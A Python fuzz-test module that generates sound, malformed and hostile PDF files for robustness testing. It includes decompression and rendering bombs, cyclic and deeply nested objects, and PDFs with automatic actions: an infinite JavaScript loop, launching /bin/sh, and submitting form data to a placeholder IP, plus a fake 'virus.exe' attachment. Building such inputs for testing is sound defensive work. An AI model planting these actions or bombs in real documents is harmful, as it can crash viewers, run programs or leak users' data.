"""PDF files, sound, broken and hostile, made from a seed."""

import io

import img2pdf
import numpy as np
import pikepdf
from pikepdf import Array, Dictionary, Name, String
from PIL import Image

from tests.fuzz.endless import DRAWINGS, made
from tests.fuzz.pictures import DPI, saved, scan

Generator = np.random.Generator


def _scans(rng: Generator, n: int | None = None) -> bytes:
    """Write a PDF of a few scans."""
    n = int(rng.integers(1, 4)) if n is None else n
    images = [Image.fromarray(scan(rng, int(rng.integers(20, 120)), int(rng.integers(20, 120)))) for _ in range(n)]
    packed = [saved(image, ("PNG", "JPEG")[rng.integers(0, 2)]) for image in images]
    return img2pdf.convert(packed, layout_fun=img2pdf.get_fixed_dpi_layout_fun(DPI))


def _written(pdf: pikepdf.Pdf, **options: object) -> bytes:
    file = io.BytesIO()
    pdf.save(file, static_id=True, **options)
    return file.getvalue()


def _changed(rng: Generator) -> pikepdf.Pdf:
    return pikepdf.open(io.BytesIO(_scans(rng)))


def sound(rng: Generator) -> bytes:
    """Scans in a PDF, with or without a compressed table of objects."""
    data = _scans(rng)
    if rng.random() < 0.5:
        return data
    mode = (pikepdf.ObjectStreamMode.generate, pikepdf.ObjectStreamMode.disable)[rng.integers(0, 2)]
    return _written(pikepdf.open(io.BytesIO(data)), object_stream_mode=mode, linearize=bool(rng.integers(0, 2)))


def locked(rng: Generator) -> bytes:
    """A PDF that only opens with a password."""
    strength = int(rng.choice([2, 3, 4, 6]))
    encryption = pikepdf.Encryption(
        user="secret", owner="secret", R=strength, aes=strength >= 4, metadata=strength >= 4
    )
    return _written(_changed(rng), encryption=encryption)


def without_pages(rng: Generator) -> bytes:
    """A PDF whose tree of pages is empty, absent, or something else."""
    pdf = _changed(rng)
    if rng.random() < 0.3:
        del pdf.pages[:]
    else:
        others = (Array([]), Dictionary(), String("pages"), 3, pdf.make_indirect(Dictionary(Type=Name.Pages, Count=0)))
        pdf.Root.Pages = others[rng.integers(0, len(others))]
    return _written(pdf)


def odd_page_size(rng: Generator) -> bytes:
    """A PDF whose page is huge, tiny, inside out, or of no numbers at all."""
    pdf = _changed(rng)
    boxes = ([0, 0, 1e7, 1e7], [0, 0, 0, 0], [0, 0, 1e-6, 1e-6], [0, 0, -50, -50], [500, 500, 0, 0], [0, 0, 2e9, 1])
    boxes += ([0], [Name.A, Name.B, 3, 4], [-2e9, -2e9, 2e9, 2e9])
    pdf.pages[0].MediaBox = Array(boxes[rng.integers(0, len(boxes))])
    if rng.random() < 0.4:
        pdf.pages[0].Rotate = int(rng.choice([45, -90, 90, 2**31 - 1]))
    if rng.random() < 0.4:
        pdf.pages[0].UserUnit = float(rng.choice([0, -1, 1e6]))
    return _written(pdf)


def looped(rng: Generator) -> bytes:
    """A PDF in which something holds itself: a tree its root, a page its child, a drawing itself."""
    root, page = b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 50 50] >>"
    one_page = {1: root, 2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>", 3: page}
    drawn = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 50 50] /Contents 4 0 R "
    drawn += b"/Resources << /XObject << /A 5 0 R >> >> >>"
    form = b"/Type /XObject /Subtype /Form /BBox [0 0 50 50] /Resources << /XObject << /A 5 0 R >> >>"
    deep = {n: b"<< /Type /Pages /Kids [%d 0 R %d 0 R] /Count 2000000 >>" % (n + 1, n + 1) for n in range(2, 60)}
    kinds = (
        {**one_page, 2: b"<< /Type /Pages /Kids [2 0 R 3 0 R] /Count 2 >>"},
        {
            **one_page,
            2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 /Parent 4 0 R >>",
            4: b"<< /Kids [2 0 R] /Parent 2 0 R >>",
        },
        {**one_page, 3: b"<< /Type /Page /Parent 3 0 R >>"},
        {**one_page, 3: b"4 0 R", 4: b"3 0 R"},
        {1: root, **deep, 60: page},
        {1: b"<< /Type /Catalog /Pages 1 0 R >>"},
        {**one_page, 3: drawn, 4: b"<< /Length 4 0 R >>\nstream\n0 0 10 10 re f\nendstream", 5: b"null"},
        {**one_page, 3: drawn, 4: _stream(b"/A Do", b""), 5: _stream(b"/A Do", form)},
    )
    return _raw(kinds[rng.integers(0, len(kinds))])


def deep(rng: Generator) -> bytes:
    """A PDF in which arrays, dictionaries, text or filters lie in each other, thousands deep."""
    n = int(rng.integers(1_000, 300_000))
    opening, closing = ((b"[", b"]"), (b"<</A ", b">>"), (b"(", b")"), (b"<< /A [", b"] >>"))[rng.integers(0, 4)]
    nested, part = opening * n + closing * n, int(rng.integers(0, 5))
    page = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 50 50] /Contents 4 0 R /Annots %s /Resources %s >>"
    objects = {
        1: b"<< /Type /Catalog /Pages 2 0 R /A %s >>" % (nested if part == 0 else b"0"),
        2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        3: page % (nested if part == 1 else b"[]", nested if part == 2 else b"<< >>"),
        4: _stream(nested + b" 0 d" if part == 3 else b"0 0 9 9 re f", b""),
    }
    if part == 4:
        objects[4] = _stream(b"0 0 9 9 re f", b"/Filter [%s]" % (b"/ASCIIHexDecode " * n))
    return _raw(objects)


def endless(rng: Generator) -> bytes:
    """A small PDF that would be drawn for ever, or take all of the memory."""
    return made(DRAWINGS[rng.integers(0, len(DRAWINGS))], rng)


def _stream(content: bytes, entries: bytes) -> bytes:
    return b"<< %s /Length %d >>\nstream\n%s\nendstream" % (entries, len(content), content)


def _raw(objects: dict[int, bytes]) -> bytes:
    """Write a PDF as it is said: libraries that write PDF files mend what is to be broken here."""
    written, places = b"%PDF-1.7\n", {}
    for number, content in objects.items():
        places[number] = len(written)
        written += b"%d 0 obj\n%s\nendobj\n" % (number, content)
    n = max(objects) + 1
    table = b"".join(b"%010d 00000 n \n" % places.get(number, 0) for number in range(1, n))
    head = b"xref\n0 %d\n0000000000 65535 f \n" % n
    tail = b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (n, len(written))
    return written + head + table + tail


def acting(rng: Generator) -> bytes:
    """A sound PDF that wants to run a script, start a program or open an address when it is opened."""
    pdf = _changed(rng)
    actions = (
        Dictionary(S=Name.JavaScript, JS=String("while (true) app.alert('hello');")),
        Dictionary(S=Name.Launch, F=String("/bin/sh")),
        Dictionary(S=Name.URI, URI=String("http://192.0.2.1/")),
        Dictionary(S=Name.GoToR, F=String("\\\\192.0.2.1\\share\\x.pdf"), D=Array([0, Name.Fit])),
        Dictionary(S=Name.SubmitForm, F=String("http://192.0.2.1/")),
    )
    pdf.Root.OpenAction = actions[rng.integers(0, len(actions))]
    pdf.pages[0].AA = Dictionary(O=actions[rng.integers(0, len(actions))])
    pdf.attachments["virus.exe"] = b"MZ" + rng.bytes(100)
    return _written(pdf)


def bomb(rng: Generator) -> bytes:
    """A small PDF that declares or unpacks to far more: pictures, drawings, pages, drawings of drawings."""
    pdf, kind = _changed(rng), int(rng.integers(0, 5))
    page = pdf.pages[0]
    if kind == 0:
        page.Contents = pdf.make_stream(b"0 0 10 10 re f\n" * 30_000)
    elif kind == 1:
        side = int(rng.integers(21_000, 60_000))
        image = pdf.make_stream(bytes(1000))
        image.Type, image.Subtype, image.ColorSpace = Name.XObject, Name.Image, Name.DeviceGray
        image.Width, image.Height, image.BitsPerComponent = side, side, 8
        page.Resources = Dictionary(XObject=Dictionary(Big=image))
        page.Contents = pdf.make_stream(b"q 100 0 0 100 0 0 cm /Big Do Q")
    elif kind == 2:
        pdf.Root.Pages.Count = 2_000_000_000
    elif kind == 3:
        drawing = pdf.make_stream(b"0 0 10 10 re f")
        for _ in range(5):
            inner, drawing = drawing, pdf.make_stream(b"/Inner Do " * 10)
            drawing.Resources = Dictionary(XObject=Dictionary(Inner=inner))
            for form in (inner, drawing):
                form.Type, form.Subtype, form.BBox = Name.XObject, Name.Form, Array([0, 0, 100, 100])
        page.Resources = Dictionary(XObject=Dictionary(Outer=drawing))
        page.Contents = pdf.make_stream(b"/Outer Do")
    else:
        nested = Array([])
        for _ in range(400):
            nested = Array([nested])
        page.Annots = nested
    return _written(pdf, compress_streams=True)
